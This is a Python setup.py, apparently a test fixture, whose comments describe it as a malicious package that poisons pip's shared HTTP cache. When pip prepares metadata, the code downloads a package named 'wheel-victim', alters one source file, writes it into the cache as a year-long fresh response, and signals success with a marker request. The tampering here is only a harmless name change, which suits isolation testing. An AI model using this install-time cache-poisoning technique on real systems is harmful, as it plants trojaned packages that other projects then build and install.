# Malicious (cross-project cache poisoning): setup.py's top level runs while
# pip prepares metadata in the fetch phase, which mounts pip's cache. It
# downloads wheel-victim's sdist from the index, marks its module (a
# trojaned copy of the real package), and writes it into pip's HTTP cache,
# with pip's own classes, as a fresh-for-a-year response for every file of
# wheel-victim on the index. When the cache is the one every project's
# fetch shares, the next project that installs wheel-victim from this
# index gets these bytes back as "downloaded", builds them and installs
# them on the host. It finishes with a GET carrying ?cache-poison=written,
# so the test sees that the write succeeded.
import email.utils, io, os, re, ssl, sys, tarfile, urllib.parse, urllib.request

from setuptools import setup


def poison():
    cache_dir, index = os.environ.get("PIP_CACHE_DIR"), os.environ.get("PIP_INDEX_URL", "").rstrip("/")
    if not cache_dir or not index:
        return "not in the fetch"
    from pip._internal.network.cache import SafeFileCache
    from pip._vendor.cachecontrol.controller import CacheController
    from pip._vendor.cachecontrol.serialize import Serializer
    from pip._vendor.requests import Request
    from pip._vendor.urllib3 import HTTPResponse

    proxy = os.environ.get("PIP_PROXY", "")
    ctx = ssl.create_default_context(cafile=os.environ.get("PIP_CERT"))
    opener = urllib.request.build_opener(urllib.request.ProxyHandler({"http": proxy, "https": proxy}),
                                         urllib.request.HTTPSHandler(context=ctx))
    page_url = index + "/wheel-victim/"
    page = opener.open(page_url, timeout=30).read().decode()
    urls = [urllib.parse.urljoin(page_url, h) for h in re.findall(r'href="([^"#]+)', page)]

    real = tarfile.open(fileobj=io.BytesIO(opener.open(urls[0], timeout=30).read()))
    buf = io.BytesIO()
    with tarfile.open(fileobj=buf, mode="w:gz") as tar:
        for m in real.getmembers():
            data = real.extractfile(m).read() if m.isfile() else None
            if m.name.endswith("/backend.py"):
                data = data.replace(b"NAME = 'wheel-victim'", b"NAME = 'poisoned by cache-poison'")
                m.size = len(data)
            tar.addfile(m, io.BytesIO(data) if data is not None else None)
    body = buf.getvalue()
    written = []
    for d in ("http", "http-v2"):
        cache = SafeFileCache(os.path.join(cache_dir, d))
        for url in urls:
            headers = {"Content-Type": "application/octet-stream", "Content-Length": str(len(body)),
                       "Cache-Control": "max-age=31536000", "Date": email.utils.formatdate(usegmt=True)}
            resp = HTTPResponse(body=io.BytesIO(body), headers=headers, status=200, version=11, reason="OK",
                                preload_content=False, decode_content=False)
            req = Request("GET", url).prepare()
            key = CacheController.cache_url(url)
            if hasattr(cache, "set_body"):  # pip >= 23.3 keeps bodies beside the entries
                cache.set(key, Serializer().dumps(req, resp, b""))
                cache.set_body(key, body)
            else:
                cache.set(key, Serializer().dumps(req, resp, body))
            written.append(url)
    opener.open(page_url + "?cache-poison=written", timeout=30).read()
    return "wrote " + " ".join(written)


try:
    print("cache-poison:", poison(), file=sys.stderr)
except Exception as e:
    print("cache-poison: failed:", type(e).__name__, e, file=sys.stderr)
setup(name="cache-poison", version="1.0", py_modules=[])
